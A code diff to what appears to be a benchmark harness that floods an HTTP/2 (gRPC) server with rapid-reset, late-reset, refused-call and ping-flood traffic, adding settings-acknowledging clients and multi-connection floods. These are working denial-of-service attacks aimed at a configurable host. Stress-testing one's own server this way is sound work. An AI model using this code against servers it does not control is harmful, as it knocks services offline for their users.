@@ -10,7 +10,9 @@ import struct
 import threading
 import time
 from collections.abc import Callable, Iterator, Mapping
+from concurrent.futures import ThreadPoolExecutor
 from functools import partial
+from queue import Empty, SimpleQueue
 
 from bench.attacks import http2
 from bench.attacks.attack import Attack, Outcome, Victim
@@ -25,6 +27,8 @@ _LAST_STREAM = 2**31 - 1
 _SOCKET_TIMEOUT_S = 5.0
 NUM_IDLE, NUM_DESCRIPTORS = 400, 256
 NUM_SLOW_CONNECTIONS, NUM_SLOW_CALLS = 8, 16
+NUM_FLOODED = 8
+_READ_BYTES = 2**18
 MAX_PINGS = 500_000
 """On one connection. So many fit into the socket buffers if the other side does not read."""
 
@@ -68,13 +72,47 @@ def _pings(headers: bytes) -> Iterator[bytes]:
         yield batch
 
 
+def _discard(connection: socket.socket, answers: SimpleQueue[bytes]) -> None:
+    """Read until the connection is closed, here or there."""
+    with contextlib.suppress(OSError):
+        while connection.recv(_READ_BYTES):
+            pass
+        # Of a connection that only the server has closed, writing would go on until its kernel says so.
+        connection.shutdown(socket.SHUT_RDWR)
+
+
+def _ignore(connection: socket.socket, answers: SimpleQueue[bytes]) -> None:
+    """Read nothing."""
+
+
+def _answer(connection: socket.socket, answers: SimpleQueue[bytes]) -> None:
+    """Read as `_discard` does, and acknowledge settings and pings as the protocol asks for."""
+    buffer = bytearray()
+    with contextlib.suppress(OSError):
+        while data := connection.recv(_READ_BYTES):
+            buffer += data
+            at = 0
+            while len(buffer) >= at + 9 and len(buffer) >= at + 9 + (size := int.from_bytes(buffer[at : at + 3])):
+                kind, flags = buffer[at + 3], buffer[at + 4]
+                if kind == http2.SETTINGS and not flags & http2.ACK:
+                    answers.put(http2.frame(http2.SETTINGS, http2.ACK, 0))
+                elif kind == http2.PING and not flags & http2.ACK:
+                    answers.put(http2.frame(http2.PING, http2.ACK, 0, bytes(buffer[at + 9 : at + 9 + size])))
+                at += 9 + size
+            del buffer[:at]
+        connection.shutdown(socket.SHUT_RDWR)
+
+
+_Reads = Callable[[socket.socket, SimpleQueue[bytes]], None]
+
+
 def _flood(
     batches: Callable[[bytes], Iterator[bytes]],
     victim: Victim,
     seconds: float,
     headers: bytes,
     *,
-    is_reading: bool = True,
+    reads: _Reads = _discard,
 ) -> Outcome:
     """Writes as fast as the socket takes it, on a new connection wherever the server has closed the last."""
     end, outcome = time.monotonic() + seconds, Outcome()
@@ -82,35 +120,44 @@ def _flood(
         try:
             with socket.create_connection((victim.host, victim.port), _SOCKET_TIMEOUT_S) as connection:
                 outcome["connections"] += 1
-                if is_reading:
-                    threading.Thread(target=_discard, args=(connection,), daemon=True).start()
                 connection.sendall(http2.PREFACE + http2.settings())
+                answers: SimpleQueue[bytes] = SimpleQueue()
+                threading.Thread(target=reads, args=(connection, answers), daemon=True).start()
+                if reads is _answer:
+                    # The server limits the calls of a client that has not acknowledged its settings.
+                    connection.sendall(answers.get(timeout=_SOCKET_TIMEOUT_S))
                 for batch in batches(headers):
                     left_s = end - time.monotonic()
                     if left_s <= 0.0:
                         break
                     connection.settimeout(left_s)
+                    while not answers.empty():
+                        connection.sendall(answers.get())
                     connection.sendall(batch)
                     outcome["batches"] += 1
         except TimeoutError:
             break
-        except OSError:
+        except (OSError, Empty):
             # The server has had enough of this connection.
             time.sleep(0.01)
     return outcome
 
 
-def _discard(connection: socket.socket) -> None:
-    """Read until the connection is closed, here or there."""
-    with contextlib.suppress(OSError):
-        while connection.recv(2**18):
-            pass
-        # Of a connection that only the server has closed, writing would go on until its kernel says so.
-        connection.shutdown(socket.SHUT_RDWR)
+def _on_many_connections(
+    batches: Callable[[bytes], Iterator[bytes]], victim: Victim, seconds: float, headers: bytes
+) -> Outcome:
+    """The same on several connections at a time, each by a thread."""
+    with ThreadPoolExecutor(NUM_FLOODED) as threads:
+        flood = partial(_flood, batches, victim, seconds, headers, reads=_answer)
+        return sum((item.result() for item in [threads.submit(flood) for _ in range(NUM_FLOODED)]), Outcome())
 
 
 def _call_headers() -> bytes:
     return http2.call_headers(COMPLETE_QUERY)
+
+
+def _unknown_headers() -> bytes:
+    return http2.call_headers("/no.Service/Method")
 
 
 def _idle(victim: Victim, seconds: float, prepared: None) -> Outcome:
@@ -180,6 +227,34 @@ ATTACKS = (
         num_processes=2,
     ),
     Attack(
+        "settled-resets",
+        "rapid reset by clients that acknowledge the server's settings, two processes, no token",
+        partial(_flood, _resets, reads=_answer),
+        _call_headers,
+        num_processes=2,
+    ),
+    Attack(
+        "settled-late-resets",
+        "the same, reset after 10 ms",
+        partial(_flood, _late_resets, reads=_answer),
+        _call_headers,
+        num_processes=2,
+    ),
+    Attack(
+        "settled-refusals",
+        "calls without token whose refusals are read, two processes",
+        partial(_flood, _refused, reads=_answer),
+        _call_headers,
+        num_processes=2,
+    ),
+    Attack(
+        "many-resets",
+        f"rapid reset on {2 * NUM_FLOODED} connections, of a method that there is not, two processes, no token",
+        partial(_on_many_connections, _resets),
+        _unknown_headers,
+        num_processes=2,
+    ),
+    Attack(
         "ping-flood",
         "ping flood, two processes, no token",
         partial(_flood, _pings),
@@ -190,7 +265,7 @@ ATTACKS = (
     Attack(
         "unread-refusals",
         "calls without token whose refusals are never read, two processes",
-        partial(_flood, _refused, is_reading=False),
+        partial(_flood, _refused, reads=_ignore),
         _call_headers,
         num_processes=2,
     ),
